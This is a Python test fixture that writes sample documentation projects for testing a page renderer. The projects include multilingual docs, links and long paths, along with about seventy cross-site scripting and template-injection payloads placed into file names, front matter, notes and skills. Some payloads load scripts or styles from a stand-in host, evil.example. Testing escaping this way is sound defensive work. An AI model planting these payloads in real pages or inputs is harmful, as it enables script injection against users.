"""A project for tests of the page: documents in three languages, code, links, and texts that attack a browser."""

from pathlib import Path
from urllib.parse import quote

_PARTS = """
<script>alert(1)</script>
<script src=https://evil.example/x.js></script>
<img src=x onerror=alert(1)>
<img src=https://evil.example/pixel.png>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=javascript:alert(1)></object>
<embed src=https://evil.example/x.swf>
<a href=javascript:alert(1)>x</a>
<a href="jAvAsCrIpT:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="//evil.example/x">x</a>
<form action=https://evil.example><button>x</button></form>
<form id=search><input name=q></form>
<input autofocus onfocus=alert(1)>
<button onclick=alert(1)>x</button>
<body onload=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video src=https://evil.example/v.mp4 onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(https://evil.example/b.png)}</style>
<div style="background:url(https://evil.example/c.png)">x</div>
<div style="position:fixed;inset:0">x</div>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href=https://evil.example/>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea><script>alert(1)</script></textarea>
<title><script>alert(1)</script></title>
<xmp><script>alert(1)</script></xmp>
<marquee onstart=alert(1)>x</marquee>
<select onfocus=alert(1) autofocus><option>x</select>
<table background=javascript:alert(1)><tr><td>x</table>
<p id=results class=hit>x</p>
<p id=q name=body>x</p>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
"><svg onload=alert(1)>
" autofocus onfocus=alert(1) x="
' onmouseover=alert(1) x='
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</script><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
{{7*7}}{{config}}
{% for x in (1,) %}<script>alert(1)</script>{% endfor %}
${alert(1)}
`-alert(1)-`
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
[x](javascript:alert(1))
![x](https://evil.example/i.png)
[x]: javascript:alert(1)
<https://evil.example/auto>
[[javascript:alert(1)]]
<x/onclick=alert(1)>x</x>
<scr<script>ipt>alert(1)</scr</script>ipt>
"""
PAYLOADS = tuple(line for line in _PARTS.splitlines() if line)

FILES = {
    "README.md": "# Harbour\n\nNotes of a small harbour. Start with [holding a berth](docs/berths.md).\n",
    "docs/berths.md": (
        "---\ntitle: Holding a berth\ntags: [berths, booking]\ndoc_type: guide\n"
        "source_refs: [src/berths.py, src/gone.py]\n---\n"
        "# Holding a berth\n\nA berth is held for two hours. See [[pager]] and [the tides](tides.md#spring-tides).\n\n"
        "## Paying\n\nThe skipper pays by card before the berth is released. `hold_berth` writes the booking.\n\n"
        "1. Read the number of the berth.\n2. Enter it.\n\n| berth | metres |\n|---|---|\n| A1 | 12 |\n\n"
        "```python\ndef release(berth):\n    return berth + 1\n```\n\n"
        "## Refunds\n\nA refund takes three days. See [missing](nowhere.md).\n\n"
        "A note[^1] and ![a plan](plan.png).\n\n[^1]: Of the harbour.\n"
    ),
    "docs/berths.ja.md": (
        "---\nlang: ja\n---\n# 係留場所の確保\n\n[English](berths.md)\n\n"
        "係留場所は二時間まで確保できます。支払いはカードで行います。\n"
    ),
    "docs/berths.zh.md": (
        "---\nlang: zh\n---\n# 保留泊位\n\n[English](berths.md)\n\n泊位可以保留两个小时。船长必须先用卡付款。\n"
    ),
    "docs/pager.md": "# Pager\n\nThe pager rings when the wind is above force eight. See [tides](tides.md).\n",
    "docs/tides.md": "# Tides\n\nThe table of tides.\n\n## Spring tides\n\nAt spring tides the basin is closed.\n",
    "src/berths.py": """\
'''Berths of the harbour.'''


def hold_berth(number):
    '''Hold a berth for two hours.'''
    return {"berth": number, "html": "<script>alert(1)</script>"}


def free_berth(number):
    return number
""",
    f"docs/{'long-' * 20}name/{'very-' * 20}long.md": f"# A long path\n\nThe {'quay' * 60} is long.\n",
}  # fmt: skip


def write_page_project(root: Path) -> Path:
    """Write the project, with pages for a long list of results and one page for each attack."""
    files = {**FILES, "xss/all.md": _all_attacks(), "xss/all.py": _attack_code()}
    for number in range(110):
        files[f"log/{number:03}.md"] = f"# Entry {number}\n\nThe ferry arrived on day {number}.\n"
    for number, payload in enumerate(PAYLOADS):
        name = payload.replace("/", "").replace("\\", "")[:80]
        files[f"xss/{number} {name}.md"] = _attack_page(payload)
    for path, text in files.items():
        write_file(root, path, text)
    return root


def write_notebook_project(root: Path) -> Path:
    """Write a project for writing: documents to link to, and a skill outside the folder of skills."""
    for path, text in {
        **FILES,
        "deploy/SKILL.md": "---\nname: deploy\ndescription: Deploys it.\n---\n\n# Deploy\n",
    }.items():
        write_file(root, path, text)
    return root


def write_file(root: Path, path: str, text: str) -> None:
    """Write a file as an editor or an agent does."""
    (root / path).parent.mkdir(parents=True, exist_ok=True)
    (root / path).write_text(text, encoding="utf-8")


def write_attacks(root: Path) -> None:
    """Write one note, task and skill for each attack, in every field."""
    for number, payload in enumerate(PAYLOADS):
        quoted = "'" + payload.replace("'", "''") + "'"
        names = ("title", "status", "priority", "due", "assignee", "description", "other", f"k{number}")
        fields = "".join(f"{name}: {quoted}\n" for name in names)
        lists = "".join(f"{name}: [{quoted}]\n" for name in ("tags", "triggers", "file_patterns", "related_to"))
        text = f"---\n{fields}{lists}---\n\n# zebra {payload}\n\n{payload}\n\n[{payload}](x.md) [[{payload}]]\n"
        for kind in ("notes", "tasks", "skills"):
            write_file(root, f".waymeet/{kind}/attack-{number}.md", text)


def _attack_page(payload: str) -> str:
    quoted = payload.replace("'", "''")
    return (
        f"---\ntitle: 'zebra {quoted}'\ntags: ['{quoted}']\nnote: '{quoted}'\nlang: '{quoted}'\n---\n"
        f"# zebra {payload}\n\n## {payload}\n\nzebra {payload}\n\n[{payload}](all.md) [[all|{payload}]]\n"
    )


def _all_attacks() -> str:
    blocks = [
        f"## {payload}\n\nText {payload} text.\n\n{payload}\n\n- {payload}\n\n> {payload}\n" for payload in PAYLOADS
    ]
    links = [
        f"[link]({quote(payload)}) [{payload}](<{payload.replace('<', '').replace('>', '')}>)" for payload in PAYLOADS
    ]
    code = "\n".join(PAYLOADS)
    fences = "\n\n".join(f"```{payload[:30]}\n{payload}\n```" for payload in PAYLOADS[:10])
    return "# All attacks\n\n" + "\n".join(blocks) + "\n\n".join(links) + f"\n\n```html\n{code}\n```\n\n{fences}\n"


def _attack_code() -> str:
    lines = [f"attack_{number} = {payload!r}  # {payload}" for number, payload in enumerate(PAYLOADS)]
    return "\n".join(lines) + "\n"
